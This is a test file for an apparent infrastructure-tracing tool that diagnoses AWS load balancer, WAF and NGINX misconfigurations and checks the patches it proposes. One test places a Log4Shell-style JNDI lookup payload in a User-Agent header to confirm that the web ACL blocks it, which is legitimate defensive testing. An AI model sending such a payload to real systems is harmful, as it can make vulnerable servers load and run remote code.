import { beforeAll, describe, expect, test } from 'vitest';
import type { Loaded } from '../../../src/cli/load.ts';
import { writtenBy } from '../../../src/cli/written.ts';
import { checkedOf } from '../../../src/cli/check.ts';
import { placeOf, traced } from '../xnat/reading.ts';
import { estate, foundIn } from './estates.ts';

const request = { url: 'http://central.example.com/internet', from: '203.0.113.10' };
let published: Loaded;
beforeAll(async () => {
  published = await estate('as-published');
});

describe('the request of the article', () => {
  test('gets 502 from the load balancer, because TLS meets a plaintext port', () => {
    const { trace, answer } = traced(published, request);
    expect(trace.outcomes.map(({ verdict, when }) => [verdict, when.length])).toMatchObject([[{ kind: 'answered', status: 502, cause: 'tls-to-plaintext' }, 0]]);
    expect(answer.stops.map(({ rule, blocker }) => [rule.name, placeOf(blocker.origin.at)])).toEqual([['tls-sent-to-plaintext-port', 'nginx.yaml:125']]);
    expect(trace.health.map(({ state, cause }) => `${state} ${cause ?? ''}`)).toContain('unhealthy tls-to-plaintext');
  });

  test('is mended in two lines, or so that the way to NGINX is encrypted', () => {
    const { answer } = traced(published, request);
    expect(answer.stops[0]!.mends.map(({ certainty, title, proof }) => [certainty, title, proof.after.kind])).toEqual([
      ['proved', 'let the load balancer speak plain HTTP to this port', 'delivered'],
      ['proved', expect.stringMatching(/^let the load balancer come to port 443 of the endpoint service, and go on encrypting; allow tcp\/443 from .*internet-ingress-alb-sg on .*allow_public_ingress$/), 'delivered'],
    ]);
    const [smallest, encrypting] = answer.stops[0]!.mends.map(({ edits }) => writtenBy(published, edits).patch.split('\n').filter((line) => /^[-+] /.test(line)).map((line) => line.replace(/\s+/g, ' ')));
    expect(smallest).toEqual(['- protocol = "HTTPS"', '+ protocol = "HTTP"', '- protocol = "HTTPS"', '+ protocol = "HTTP"']);
    expect(encrypting).toEqual(expect.arrayContaining(['- port = "80"', '+ port = "443"', '+ from_port = 443', '+ to_port = 443']));
  });

  test('passes through both accounts: the parameter, the endpoint, the load balancer that Kubernetes makes, NGINX', () => {
    const { trace } = traced(published, request);
    expect(trace.outcomes[0]!.steps.flatMap(({ hop, origin }) => (origin.note === undefined ? [] : [hop.split('/')[0]!])).filter((word, index, all) => word !== all[index - 1])).toEqual(['wire', 'out', 'in', 'back-out', 'rules', 'group', 'wire', 'out', 'in', 'back-out', 'endpoint', 'balancer', 'service', 'pod', 'group']);
  });

  // e8: the article has the log line first and the web ACL behind it.
  test('is not forwarded where the web ACL blocks it', () => {
    const { trace } = traced(published, { ...request, headers: ['User-Agent: ${jndi:ldap://example.com/}'] });
    expect(trace.outcomes[0]!.verdict).toMatchObject({ kind: 'answered', status: 403, cause: 'web-acl-blocked' });
    expect(trace.outcomes[0]!.steps.some(({ hop }) => hop.startsWith('group/'))).toBe(false);
  });

  // e10: the targets of the load balancer are interfaces of the endpoint; the one behind it passes bytes on unread.
  test('goes to interfaces of an endpoint, and the load balancer of the cluster reads nothing of it', () => {
    const notes = traced(published, request).trace.outcomes[0]!.steps.map(({ origin }) => origin.note ?? '');
    expect(notes).toContainEqual(expect.stringMatching(/^target group internet-ingress-target-group leads to .*aws_vpc_endpoint.*:80 \(HTTPS, certificate not verified\)$/));
    expect(notes).toContain('the load balancer of Service ingress-nginx/ingress-nginx-controller passes connections on unread');
  });
});

test('a check finds each trap at its line', () => {
  expect(foundIn(published)).toEqual([
    // e4
    'error apply-ends-with-error application-load-balancer.tf:40',
    // e18
    'error apply-ends-with-error nginx.tf:30',
    // e3
    'error apply-ends-with-error waf.tf:34',
    // Terraform 1.11.4: the child has a configuration of its own for an alias that is handed to it, too.
    'error plan-ends-with-error cluster-stack.tf:10',
    // e1
    'error tls-sent-to-plaintext-port nginx.yaml:125',
    // e7
    'note parameter-overwritten-silently nginx.tf:41',
    // e5
    'warning cluster-endpoint-open-to-internet control-plane.tf:13',
    // e11
    'warning forwarded-headers-ignored nginx.yaml:11',
    // What e1 makes of the health check.
    'warning health-check-fails-open target-group.tf:12',
    // e17
    'warning moving-tag-in-immutable-repository nginx.yaml:110',
    // e2
    'warning plaintext-from-internet application-load-balancer.tf:49',
    // e3
    'warning rule-group-only-counts waf.tf:36',
  ]);
});

test('what is found says what is experienced, and mends it where it can be mended', () => {
  const { findings } = checkedOf(published, Date.parse('2026-11-22'));
  const titles = new Map(findings.map(({ name, at, mends }) => [`${name} ${placeOf(at)}`, mends.map(({ certainty, title }) => `${certainty}: ${title}`)]));
  expect(titles.get('plaintext-from-internet application-load-balancer.tf:49')).toEqual(['needs a value: take HTTPS on port 443, with a certificate for the names that clients ask for']);
  expect(titles.get('rule-group-only-counts waf.tf:36')).toEqual(['proved: let AWSManagedRulesCommonRuleSet stop what it finds']);
  expect(titles.get('parameter-overwritten-silently nginx.tf:41')).toEqual(['proved: let apply refuse a name that is taken']);
  expect(titles.get('cluster-endpoint-open-to-internet control-plane.tf:13')).toEqual(['proved: switch public access off']);
  expect(titles.get('apply-ends-with-error waf.tf:34')).toEqual(['proved: give AWS-AWSManagedRulesCommonRuleSet priority 2, the next that nobody has']);
  expect(titles.get('apply-ends-with-error application-load-balancer.tf:40')).toEqual(['proved: let logdelivery.elasticloadbalancing.amazonaws.com put objects at central-internet-alb-logs/internet-ingress-alb/AWSLogs/, and set its logs once the policy is there']);
  expect(titles.get('apply-ends-with-error nginx.tf:30')).toEqual(['proved: allow arn:aws:iam::111122223333:role/network-role-central']);
});
